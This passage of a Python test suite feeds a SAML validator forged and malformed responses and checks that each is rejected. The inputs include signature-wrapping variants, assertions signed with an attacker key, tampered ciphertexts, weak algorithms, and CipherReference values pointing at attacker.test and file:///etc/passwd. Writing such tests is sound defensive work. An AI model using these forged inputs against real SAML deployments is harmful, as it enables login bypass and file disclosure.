    case("response-status-without-assertion", response("", status_xml=status("urn:oasis:names:tc:SAML:2.0:status:Responder", "urn:oasis:names:tc:SAML:2.0:status:NoPassive")), "status", "a plain refusal")
    case("response-unsolicited-names-request", assertion_signed(), "response_in_response_to", "unsolicited is expected, but it names a request", in_response_to=None)
    case("response-expected-request-empty", assertion_signed({"request": ""}), "response_in_response_to", "no request can have the empty id", in_response_to="")
    case("response-other-namespace", assertion_signed().replace(SAMLP, "urn:oasis:names:tc:SAML:1.0:protocol"), "root_element", "SAML 1")
    case("response-no-namespace", assertion_signed().replace(f'xmlns:samlp="{SAMLP}"', 'xmlns:samlp="urn:x"'), "root_element", "another namespace")
    case("assertion-alone", signed_assertion(), "root_element", "an assertion without a response")
    case("soap-envelope", f'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>{assertion_signed()}</s:Body></s:Envelope>', "root_element", "in an envelope")
    case("response-id-absent", assertion_signed({"id": None}), "unique_ids", "no id")


def assertions(case):
    """The assertion as a whole."""
    case("no-assertion", response_signed({"content": ""}) if False else sign(response("", signed=True), "_response-1"), "one_assertion", "a signed response without one")
    two = sign(response(assertion() + assertion(id="_assertion-2", signed=False)), "_assertion-1")
    case("two-assertions-second-unsigned", two, "one_assertion", "a second, unsigned")
    two = sign(response(assertion(id="_assertion-2", signed=False) + assertion()), "_assertion-1")
    case("two-assertions-first-unsigned", two, "one_assertion", "the first is unsigned")
    two = sign(sign(response(assertion() + assertion(id="_assertion-2")), "_assertion-1"), "_assertion-2")
    case("two-assertions-both-signed", two, "one_assertion", "both are signed")
    two = sign(response(assertion(signed=False) + assertion(id="_assertion-2", signed=False), signed=True), "_response-1")
    case("two-assertions-response-signed", two, "one_assertion", "in a signed response")
    case("assertion-in-advice", assertion_signed(conditions_xml=conditions() + f"<saml:Advice>{assertion(id='_advice', signed=False)}</saml:Advice>"), "one_assertion", "an assertion in advice")
    case("assertion-in-extensions-only", sign(response("", before="<samlp:Extensions>" + assertion() + "</samlp:Extensions>"), "_assertion-1"), "one_assertion", "the only assertion is out of place")
    for name, options, expect, note in [
        ("version-1-1", {"version": "1.1"}, "version", "SAML 1.1"),
        ("version-absent", {"version": None}, "version", "no version"),
        ("issuer-other", {"issuer": "https://other-idp.example.test/saml"}, "assertion_issuer", "another identity provider"),
        ("issuer-absent", {"issuer_xml": ""}, "assertion_issuer", "nobody"),
        ("issuer-empty", {"issuer": ""}, "assertion_issuer", "the empty name"),
        ("issuer-twice", {"issuer_xml": f"<saml:Issuer>{IDP}</saml:Issuer>" * 2}, "assertion_issuer", "twice"),
        ("issuer-suffix", {"issuer": IDP + "/"}, "assertion_issuer", "almost it"),
        ("issued-long-ago", {"instant": "2026-03-01T11:30:00Z"}, "assertion_issue_instant", "half an hour old"),
        ("issued-in-the-future", {"instant": "2026-03-01T12:10:00Z"}, "assertion_issue_instant", "ahead"),
        ("issued-absent", {"instant": None}, "assertion_issue_instant", "no time"),
        ("issued-no-time", {"instant": "0"}, "assertion_issue_instant", "no time at all"),
    ]:
        case(f"assertion-{name}", assertion_signed(**options), expect, note)
        case(f"assertion-{name}-whole", response_signed(**options), expect, note + "; the response is signed")


def subjects(case):
    long = "a" * 2000
    for name, options, expect, note in [
        ("absent", {"subject": "<!-- none -->"}, "name_id", "no subject"),
        ("twice", {"subject": f"<saml:Subject>{name_id()}{confirmation()}</saml:Subject>" * 2}, "name_id", "two subjects"),
        ("name-id-absent", {"name": ""}, "name_id", "no identifier"),
        ("name-id-empty", {"name": name_id("")}, "name_id", "an empty one"),
        ("name-id-space", {"name": name_id(" \n ")}, "name_id", "nothing but space"),
        ("name-id-twice", {"name": name_id("admin") + name_id()}, "name_id", "two"),
        ("name-id-element", {"name": name_id("alice<b>@</b>example.test")}, "name_id", "an element that splits it"),
        ("name-id-element-first", {"name": name_id("<b>admin</b>alice")}, "name_id", "an element before it"),
        ("name-id-empty-element", {"name": name_id("admin<b/>@example.test")}, "name_id", "an empty element in it"),
        ("name-id-too-long", {"name": name_id(long)}, "name_id", "two thousand characters"),
        ("name-id-line-break", {"name": name_id("alice&#10;admin")}, "name_id", "two lines"),
        ("name-id-tab", {"name": name_id("alice&#9;admin")}, "name_id", "a tab"),
        ("name-id-c1-control", {"name": name_id("alice&#x85;admin")}, "name_id", "a control character of the second set"),
        ("base-id", {"name": '<saml:BaseID/>'}, "name_id", "an identifier of no known kind"),
        ("name-id-and-base-id", {"name": name_id() + "<saml:BaseID/>"}, "name_id", "one of each"),
        ("name-id-other-namespace", {"name": '<NameID xmlns="urn:x">alice</NameID>'}, "name_id", "of another namespace"),
        ("confirmation-absent", {"confirmations": ""}, "subject_confirmation", "not confirmed"),
        ("confirmation-sender-vouches", {"confirmations": confirmation("urn:oasis:names:tc:SAML:2.0:cm:sender-vouches")}, "subject_confirmation", "somebody vouches"),
        ("confirmation-holder-of-key", {"confirmations": confirmation("urn:oasis:names:tc:SAML:2.0:cm:holder-of-key")}, "subject_confirmation", "for the holder of a key"),
        ("confirmation-saml1-bearer", {"confirmations": confirmation("urn:oasis:names:tc:SAML:1.0:cm:bearer")}, "subject_confirmation", "bearer of SAML 1"),
        ("confirmation-no-data", {"confirmations": confirmation(data="<!-- none -->")}, "subject_confirmation", "without data"),
        ("confirmation-two-data", {"confirmations": confirmation().replace("</saml:SubjectConfirmation>", "<saml:SubjectConfirmationData/></saml:SubjectConfirmation>")}, "subject_confirmation", "two data"),
        ("recipient-other", {"confirmations": confirmation(recipient="https://other.example.test/acs")}, "recipient", "for another"),
        ("recipient-absent", {"confirmations": confirmation(recipient=None)}, "recipient", "for nobody"),
        ("recipient-empty", {"confirmations": confirmation(recipient="")}, "recipient", "for the empty address"),
        ("recipient-slash", {"confirmations": confirmation(recipient=ACS + "/")}, "recipient", "almost this address"),
        ("recipient-entity-id", {"confirmations": confirmation(recipient=SP)}, "recipient", "our name is not our address"),
        ("recipient-other-connection", {"confirmations": confirmation(recipient=ACS[:-1] + "2")}, "recipient", "another connection of ours"),
        ("confirmation-expired", {"confirmations": confirmation(until="2026-03-01T11:57:00Z")}, "confirmation_time", "three minutes ago"),
        ("confirmation-expired-at-tolerance", {"confirmations": confirmation(until="2026-03-01T11:58:00Z")}, "confirmation_time", "at the end of the tolerance exactly"),
        ("confirmation-no-end", {"confirmations": confirmation(until=None)}, "confirmation_time", "no end"),
        ("confirmation-no-time", {"confirmations": confirmation(until="never")}, "confirmation_time", "no time"),
        ("confirmation-not-yet", {"confirmations": confirmation(start="2026-03-01T12:03:00Z")}, "confirmation_time", "not yet"),
        ("confirmation-start-no-time", {"confirmations": confirmation(start="soon")}, "confirmation_time", "a start that is no time"),
        ("confirmation-request-other", {"confirmations": confirmation(request="_req-other")}, "confirmation_in_response_to", "for another request"),
        ("confirmation-request-absent", {"confirmations": confirmation(request=None)}, "confirmation_in_response_to", "for none"),
        ("confirmation-request-empty", {"confirmations": confirmation(request="")}, "confirmation_in_response_to", "for the empty id"),
        ("confirmations-split", {"confirmations": confirmation(recipient="https://b.test/acs") + confirmation(until="2026-03-01T11:00:00Z")}, "recipient", "two that hold in part: none holds as a whole"),
    ]:
        case(f"subject-{name}", assertion_signed(**options), expect, note)
    case("subject-unsolicited-names-request", assertion_signed({"request": None}), "confirmation_in_response_to", "unsolicited, yet the assertion names a request", in_response_to=None)


def conditions_(case):
    def with_(name, xml, expect, note):
        case(f"conditions-{name}", assertion_signed(conditions_xml=xml), expect, note)

    with_("absent", "<!-- none -->", "conditions", "none")
    with_("twice", conditions() + conditions(), "conditions", "two")
    with_("unknown", conditions(inner=audience(SP) + '<saml:Condition xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:x="urn:x" xsi:type="x:Only"/>'), "conditions", "one of an unknown type")
    with_("foreign", conditions(inner=audience(SP) + '<x:Only xmlns:x="urn:x"/>'), "conditions", "one of another namespace")
    with_("do-not-cache", conditions(inner=audience(SP) + "<saml:DoNotCacheCondition/>"), "conditions", "one of SAML 1")
    with_("expired", conditions(until="2026-03-01T11:57:00Z"), "conditions_time", "three minutes ago")
    with_("expired-long-ago", conditions("2020-01-01T00:00:00Z", "2020-01-01T00:05:00Z"), "conditions_time", "years ago")
    with_("not-yet", conditions(start="2026-03-01T12:03:00Z"), "conditions_time", "not yet")
    with_("far-future", conditions("2030-01-01T00:00:00Z", "2031-01-01T00:00:00Z"), "conditions_time", "in years")
    with_("end-no-time", conditions(until="never"), "conditions_time", "an end that is no time")
    with_("start-no-time", conditions(start=""), "conditions_time", "a start that is no time")
    with_("no-audience-restriction", conditions(inner="<saml:OneTimeUse/>"), "audience", "no restriction")
    with_("empty", conditions(inner=" "), "audience", "nothing in it")
    with_("restriction-empty", conditions(inner="<saml:AudienceRestriction/>"), "audience", "a restriction to nobody")
    with_("audience-other", conditions(inner=audience("https://other.example.test")), "audience", "for another")
    with_("audience-empty", conditions(inner=audience("")), "audience", "for the empty name")
    with_("audience-acs", conditions(inner=audience(ACS)), "audience", "our address is not our name")
    with_("audience-prefix", conditions(inner=audience(SP + ".evil.test")), "audience", "begins like ours")
    with_("audience-slash", conditions(inner=audience(SP + "/")), "audience", "almost ours")
    with_("audience-case", conditions(inner=audience(SP.upper())), "audience", "in capitals")
    with_("audience-two-in-one", conditions(inner=audience(f"{SP} https://other.example.test")), "audience", "two names in one")
    with_("second-restriction-foreign", conditions(inner=audience(SP) + audience("https://other.example.test")), "audience", "the second restriction excludes us")
    with_("first-restriction-foreign", conditions(inner=audience("https://other.example.test") + audience(SP)), "audience", "the first one does")
    with_("second-restriction-empty", conditions(inner=audience(SP) + "<saml:AudienceRestriction/>"), "audience", "the second is empty")
    with_("audience-element", conditions(inner=f"<saml:AudienceRestriction><saml:Audience>{SP}<x/></saml:Audience></saml:AudienceRestriction>"), "audience", "an element in it")


def statements(case):
    for name, options, expect, note in [
        ("authn-absent", {"authn_xml": "<!-- none -->"}, "authn_statement", "nobody authenticated"),
        ("authn-decision-only", {"authn_xml": '<saml:AuthzDecisionStatement Resource="x" Decision="Permit"/>'}, "authn_statement", "another statement"),
        ("authn-no-instant", {"authn_xml": authn(instant=None)}, "authn_statement", "at no time"),
        ("authn-future", {"authn_xml": authn(instant="2026-03-01T12:10:00Z")}, "authn_statement", "in the future"),
        ("authn-no-time", {"authn_xml": authn(instant="now")}, "authn_statement", "no time at all"),
        ("session-ended", {"authn_xml": authn(until="2026-03-01T11:50:00Z")}, "session", "the session has ended"),
        ("session-no-time", {"authn_xml": authn(until="later")}, "session", "an end that is no time"),
        ("second-session-ended", {"authn_xml": authn() + authn(until="2026-03-01T11:50:00Z")}, "session", "the second session has ended"),
        ("attribute-element", {"attributes_xml": attribute("x", "a<b>c</b>")}, "attributes", "an element that splits a value"),
        ("attribute-elements", {"attributes_xml": attribute("x", "<b>c</b>")}, "attributes", "a value of elements"),
        ("attribute-name-id-and-text", {"attributes_xml": attribute("x", "admin<saml:NameID>alice</saml:NameID><saml:NameID>b</saml:NameID>")}, "attributes", "two identifiers in a value"),
        ("attribute-no-name", {"attributes_xml": "<saml:Attribute><saml:AttributeValue>x</saml:AttributeValue></saml:Attribute>"}, "attributes", "no name"),
        ("attribute-empty-name", {"attributes_xml": '<saml:Attribute Name=""/>'}, "attributes", "an empty name"),
        ("attribute-foreign-child", {"attributes_xml": '<saml:Attribute Name="x"><y xmlns="urn:y"/></saml:Attribute>'}, "attributes", "something that is no value"),
        ("attribute-foreign-sibling", {"attributes_xml": '<y xmlns="urn:y"/>'}, "attributes", "something that is no attribute"),
    ]:
        case(f"statement-{name}", assertion_signed(**options), expect, note)
    case("statement-context-other", assertion_signed(), "authn_context", "a password where more is demanded", authn_context=["https://refeds.org/profile/mfa"])
    case("statement-context-absent", assertion_signed(authn_xml=authn(context=None)), "authn_context", "no context where one is demanded", authn_context=[PPT])
    case("statement-context-prefix", assertion_signed(authn_xml=authn(context=PPT + "X")), "authn_context", "one that begins alike", authn_context=[PPT])


def encryption(case):
    signed = signed_assertion()
    enc = lambda *a, **k: response(encrypt(*a, **k))
    outer = lambda xml: sign(response(xml, signed=True), "_response-1")
    case("encryption-required", assertion_signed(), "encryption_required", "not encrypted though it must be", require_encrypted=True)
    case("encrypted-unsigned", enc(assertion(signed=False)), "signature_present", "encrypted, signed nowhere: anyone can encrypt to us")
    case("encrypted-foreign-inside", enc(signed_assertion("attacker")), "signature_valid", "signed inside by a stranger")
    case("encrypted-foreign-inside-good-outside", outer(encrypt(signed_assertion("attacker"))), "signature_valid", "signed inside by a stranger, outside by the identity provider")
    case("encrypted-good-inside-foreign-outside", sign(response(encrypt(signed), signed=True), "_response-1", "attacker"), "signature_valid", "the other way round")
    case("encrypted-other-organization", enc(signed_assertion("other-idp")), "signature_valid", "signed inside by another organization's identity provider")
    case("encrypted-tampered-inside", enc(signed.replace("alice@example.test</saml:NameID>", "admin@example.test</saml:NameID>")), "signature_valid", "changed before it was encrypted")
    case("encrypted-outer-tampered", outer(encrypt(assertion(signed=False))).replace("_response-1", "_response-2"), "signature_valid", "the signed response was changed")
    case("encrypted-swapped", re.sub(r"<saml:EncryptedAssertion>.*</saml:EncryptedAssertion>", lambda m: encrypt(assertion(signed=False, name=name_id("admin"))), outer(encrypt(assertion(signed=False))), flags=re.S), "signature_valid", "another ciphertext in a signed response")
    # algorithms
    case("encrypted-rsa15", enc(signed, method=XENC + "rsa-1_5"), "encryption_algorithm", "a key transport with a padding oracle")
    case("encrypted-rsa15-response-signed", outer(encrypt(signed, method=XENC + "rsa-1_5")), "encryption_algorithm", "the same in a signed response")
    case("encrypted-3des", enc(signed, XENC + "tripledes-cbc"), "encryption_algorithm", "Triple DES")
    case("encrypted-aes192", enc(signed, "http://www.w3.org/2009/xmlenc11#aes192-gcm"), "encryption_algorithm", "a length that is not on the list")
    case("encrypted-cbc128", enc(signed, CBC128), "encryption_algorithm", "CBC in a response that is not signed")
    case("encrypted-cbc256", enc(signed, CBC256), "encryption_algorithm", "the same with the longer key")
    case("encrypted-unknown-algorithm", enc(signed).replace(GCM256, "urn:x"), "encryption_algorithm", "an unknown algorithm")
    case("encrypted-no-algorithm", enc(signed).replace(f'<xenc:EncryptionMethod Algorithm="{GCM256}"/>', "<xenc:EncryptionMethod/>"), "encryption_algorithm", "no algorithm")
    case("encrypted-key-wrap", enc(signed).replace(OAEP, XENC + "kw-aes256"), "encryption_algorithm", "a shared key, which there is not")
    case("encrypted-key-cipher", enc(signed).replace(OAEP, GCM256), "encryption_algorithm", "a cipher as the key transport")
    case("encrypted-oaep-md5", enc(signed).replace(DS + "sha1", "http://www.w3.org/2001/04/xmldsig-more#md5"), "encryption_algorithm", "RSA-OAEP with MD5")
    digest = f'<ds:DigestMethod xmlns:ds="{DS}" Algorithm="{SHA256}"/>'
    case("encrypted-oaep-mixed", enc(signed, oaep=("sha256", "sha1"), parameters=digest), "encryption_algorithm", "a digest with SHA-256 and a mask with SHA-1, which the library cannot do")
    case("encrypted-oaep-mixed-stated", enc(signed, method=OAEP11, oaep=("sha256", "sha1"), parameters=digest + '<e:MGF xmlns:e="http://www.w3.org/2009/xmlenc11#" Algorithm="http://www.w3.org/2009/xmlenc11#mgf1sha1"/>'), "encryption_algorithm", "the same, stated")
    case("encrypted-oaep-mgf-unknown", enc(signed, method=OAEP11, parameters='<e:MGF xmlns:e="http://www.w3.org/2009/xmlenc11#" Algorithm="urn:x"/>'), "encryption_algorithm", "an unknown mask")
    # keys
    case("encrypted-sibling-key", enc(signed, recipients=["sibling"]), "decryption", "to the key of another connection")
    case("encrypted-no-keys", enc(signed), "decryption", "the connection has no key", keys=[])
    case("encrypted-key-swapped", enc(signed, oaep=("sha256", "sha256")), "decryption", "other parameters than stated")
    case("encrypted-key-too-short", enc(signed, keys=wrap(os.urandom(8))), "decryption", "a key of eight bytes")
    case("encrypted-key-random", enc(signed, keys=wrap(os.urandom(32))), "decryption", "another key")
    case("encrypted-key-empty", enc(signed, keys=wrap(b"")), "decryption", "an empty key")
    case("encrypted-key-garbage", re.sub(r"(<xenc:EncryptedKey .*?<xenc:CipherValue>)[^<]*", lambda m: m[1] + base64.b64encode(os.urandom(256)).decode(), enc(signed), flags=re.S), "decryption", "noise for a key")
    case("encrypted-key-short", re.sub(r"(<xenc:EncryptedKey .*?<xenc:CipherValue>)[^<]*", lambda m: m[1] + "AAAA", enc(signed), flags=re.S), "decryption", "three bytes for a key")
    # ciphertexts
    flip = lambda at: lambda data: data[:at] + bytes([data[at] ^ 1]) + data[at + 1:]
    for name, at in [("nonce", 0), ("middle", 100)]:
        case(f"encrypted-gcm-flipped-{name}", enc(signed, corrupt=flip(at)), "decryption", f"one bit of the {name} flipped")
    case("encrypted-gcm-tag", enc(signed, corrupt=lambda data: data[:-1] + bytes([data[-1] ^ 1])), "decryption", "one bit of the tag flipped")
    case("encrypted-gcm-short", enc(signed, corrupt=lambda data: data[:10]), "decryption", "shorter than a nonce")
    case("encrypted-gcm-empty", enc(signed, corrupt=lambda data: b""), "decryption", "no ciphertext")
    for name, cut in [("last-block", lambda d: d[:-16] + os.urandom(16)), ("odd", lambda d: d[:-3]), ("iv-only", lambda d: d[:16]), ("first-block", lambda d: os.urandom(16) + d[16:])]:
        case(f"encrypted-cbc-{name}", enc(signed, CBC256, corrupt=cut), "decryption", f"CBC, allowed, tampered: {name}", allow_cbc=True)
    # plaintexts
    for name, plain, note in [
        ("text", "hello", "text"),
        ("empty", "", "nothing"),
        ("binary", os.urandom(100), "noise"),
        ("response", assertion_signed(), "a response"),
        ("name-id", f'<saml:NameID xmlns:saml="{SAML}">admin</saml:NameID>', "an identifier"),
        ("two", signed + signed_assertion(id="_assertion-2"), "two assertions"),
        ("doctype", "<!DOCTYPE x [<!ENTITY e 'x'>]>" + signed, "a document type"),
        ("pi", "<?x?>" + signed, "an instruction"),
        ("breaks-out", "</decrypted><decrypted>" + signed, "end tags that would break out of what is around it"),
        ("breaks-out-of-parent", "</saml:EncryptedAssertion>" + signed + "<saml:EncryptedAssertion>", "the same for its parent"),
        ("truncated", signed[:-10], "half an assertion"),
        ("utf-16", signed.encode("utf-16"), "UTF-16"),
        ("deep", "<a>" * 60 + "</a>" * 60, "sixty levels"),
        ("encrypted", encrypt(signed).replace("<saml:EncryptedAssertion>", f'<saml:EncryptedAssertion xmlns:saml="{SAML}">'), "an encrypted assertion once more"),
        ("saml1", f'<Assertion xmlns="urn:oasis:names:tc:SAML:1.0:assertion"/>', "an assertion of SAML 1"),
    ]:
        case(f"encrypted-plain-{name}", enc(plain), "decryption", "the plaintext is " + note)
    nested = sign(assertion(conditions_xml=conditions() + f"<saml:Advice>{assertion(id='_x', signed=False)}</saml:Advice>"), "_assertion-1")
    case("encrypted-nested-assertion", enc(nested), "one_assertion", "an assertion inside the encrypted one")
    wrapped = assertion(id="_evil", signed=False, name=name_id("admin"), conditions_xml=conditions() + f"<saml:Advice>{signed}</saml:Advice>")
    case("encrypted-wrapped", enc(wrapped), "one_assertion", "the signed one inside an unsigned one")
    case("encrypted-duplicate-ids", enc(assertion_duplicate()), "unique_ids", "an id twice inside")
    case("encrypted-signature-elsewhere", enc(moved_signature(signed)), "signature_placement", "the signature in the wrong place inside")
    case("encrypted-sha1-inside", enc(sign(assertion(), "_assertion-1", method=DS + "rsa-sha1")), "signature_algorithm", "SHA-1 inside")
    case("encrypted-reference-elsewhere", enc(signed.replace('URI="#_assertion-1"', 'URI=""')), "signature_shape", "a reference to the whole inside")
    # forms
    good = enc(signed)
    for name, xml, note in [
        ("two-data", re.sub(r"(<xenc:EncryptedData .*</xenc:EncryptedData>)", r"\1\1", good, flags=re.S), "two ciphertexts"),
        ("no-data", response("<saml:EncryptedAssertion/>"), "no ciphertext"),
        ("no-key", re.sub(r"<xenc:EncryptedKey .*</xenc:EncryptedKey>", "", good, flags=re.S), "no key"),
        ("five-keys", enc(signed, recipients=["sp"] * 5), "five keys, to make us compute"),
        ("hundred-keys", re.sub(r"(<xenc:EncryptedKey .*</xenc:EncryptedKey>)", lambda m: m[1] * 100, good, flags=re.S), "a hundred keys"),
        ("type-content", enc(signed, type_=XENC + "Content"), "content rather than an element"),
        ("type-unknown", enc(signed, type_="urn:x"), "an unknown type"),
        ("cipher-reference", re.sub(r"(</ds:KeyInfo><xenc:CipherData>)<xenc:CipherValue>.*?</xenc:CipherValue>", r'\1<xenc:CipherReference URI="http://attacker.test/x"/>', good, flags=re.S), "a ciphertext that would be fetched"),
        ("cipher-reference-file", re.sub(r"(</ds:KeyInfo><xenc:CipherData>)<xenc:CipherValue>.*?</xenc:CipherValue>", r'\1<xenc:CipherReference URI="file:///etc/passwd"/>', good, flags=re.S), "a file as the ciphertext"),
        ("cipher-value-twice", re.sub(r"(</ds:KeyInfo><xenc:CipherData>)", r"\1<xenc:CipherValue>AAAA</xenc:CipherValue>", good), "two values"),
        ("cipher-value-no-base64", re.sub(r"(</ds:KeyInfo><xenc:CipherData><xenc:CipherValue>)", r"\1?", good), "no base64"),
        ("cipher-value-element", re.sub(r"(</ds:KeyInfo><xenc:CipherData><xenc:CipherValue>)", r"\1<x/>", good), "an element in base64"),
        ("two-methods", good.replace(f'<xenc:EncryptionMethod Algorithm="{GCM256}"/>', f'<xenc:EncryptionMethod Algorithm="{GCM256}"/><xenc:EncryptionMethod Algorithm="{CBC256}"/>'), "two algorithms"),
        ("derived-key", re.sub(r"<xenc:EncryptedKey .*</xenc:EncryptedKey>", '<e:DerivedKey xmlns:e="http://www.w3.org/2009/xmlenc11#"><e:KeyDerivationMethod Algorithm="http://www.w3.org/2009/xmlenc11#pbkdf2"/></e:DerivedKey>', good, flags=re.S), "a key derived from a password, a billion times"),
        ("key-name", re.sub(r"<xenc:EncryptedKey .*</xenc:EncryptedKey>", "<ds:KeyName>sp</ds:KeyName>", good, flags=re.S), "a key by its name"),
        ("agreement", re.sub(r"<xenc:EncryptedKey .*</xenc:EncryptedKey>", '<xenc:AgreementMethod Algorithm="http://www.w3.org/2009/xmlenc11#ECDH-ES"/>', good, flags=re.S), "a key agreed upon"),
        ("plain-inside", re.sub(r"(<saml:EncryptedAssertion>)", r'\1<saml:NameID>x</saml:NameID>', good), "something else beside"),
    ]:
        case(f"encrypted-{name}", xml, "encryption_shape", note)
    case("encrypted-and-plain", response(encrypt(signed) + assertion(id="_evil", signed=False)), "one_assertion", "a plain assertion beside the encrypted one")
    case("encrypted-twice", response(encrypt(signed) * 2), "one_assertion", "two encrypted assertions")
    case("encrypted-holds-plain", response(encrypt(signed).replace("<saml:EncryptedAssertion>", "<saml:EncryptedAssertion>" + assertion(signed=False))), "one_assertion", "a plain assertion inside the element")
    case("encrypted-no-issuer", response(encrypt(signed), issuer_xml=""), "response_issuer", "around an encrypted assertion the response must name its issuer")
    # encrypted identifiers
    secret = f'<saml:NameID xmlns:saml="{SAML}">alice@example.test</saml:NameID>'
    hide = lambda *a, **k: encrypt(*a, holder="EncryptedID", **k)
    for name, xml, expect, note in [
        ("wrong-key", hide(secret, recipients=["sibling"]), "decryption", "to another"),
        ("rsa15", hide(secret, method=XENC + "rsa-1_5"), "encryption_algorithm", "a key transport with a padding oracle"),
        ("assertion", hide(assertion(signed=False)), "decryption", "no identifier inside"),
        ("two", hide(secret + secret), "decryption", "two identifiers inside"),
        ("empty", hide(f'<saml:NameID xmlns:saml="{SAML}"/>'), "name_id", "an empty identifier inside"),
        ("beside-plain", hide(secret) + name_id(), "name_id", "one of each"),
        ("element", hide(f'<saml:NameID xmlns:saml="{SAML}">a<b/>c</saml:NameID>'), "name_id", "an element inside"),
    ]:
        case(f"encrypted-id-{name}", assertion_signed(name=xml), expect, note)
    case("encrypted-id-in-unsigned", response(assertion(signed=False, name=hide(secret))), "signature_present", "an encrypted identifier in an unsigned assertion proves nothing")


def assertion_duplicate():
    return sign(assertion(conditions_xml=conditions().replace("<saml:Conditions", '<saml:Conditions Id="_assertion-1"')), "_assertion-1")


def moved_signature(xml):
    found = re.search(r"<ds:Signature .*?</ds:Signature>", xml, re.S).group()
    return xml.replace(found, "").replace("<saml:Subject>", "<saml:Subject>" + found)
